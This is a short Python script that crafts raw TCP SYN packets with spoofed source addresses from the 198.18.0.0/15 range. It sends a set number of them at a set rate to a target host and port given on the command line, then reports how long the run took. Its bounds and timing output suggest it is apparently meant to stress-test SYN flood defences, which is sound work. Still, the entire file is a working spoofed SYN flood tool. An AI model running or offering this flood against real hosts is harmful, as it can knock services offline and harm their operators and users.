"""A bounded flood of SYNs from addresses that nobody has: COUNT of them, at most RATE a second. Prints when it is
over and how long it took."""

import random
import socket
import struct
import sys
import time

target = socket.inet_aton(sys.argv[1])
port, count, rate = (int(word) for word in sys.argv[2:5])


def total(data):
    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
    words = (words & 0xFFFF) + (words >> 16)
    return ~(words + (words >> 16)) & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
chance = random.Random(1)
# Whoever was late does not catch up: that would be another rate.
begin = due = time.monotonic()
for number in range(count):
    source = struct.pack("!I", 0xC6120000 + chance.randrange(1 << 17))
    rest = struct.pack("!IIBBHHH", chance.randrange(1 << 32), 0, 0x60, 2, 65535, 0, 0) + b"\x02\x04\x05\xb4"
    ports = struct.pack("!HH", chance.randrange(1024, 65536), port)
    checksum = total(source + target + struct.pack("!HH", 6, 24) + ports + rest)
    tcp = ports + rest[:12] + struct.pack("!H", checksum) + rest[14:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0, 64, 6, 0) + source + target
    raw.sendto(ip + tcp, (sys.argv[1], 0))
    due = max(due + 1 / rate, time.monotonic() - 0.01)
    ahead = due - time.monotonic()
    if ahead > 0.01:
        time.sleep(ahead)
print(time.time(), time.monotonic() - begin)
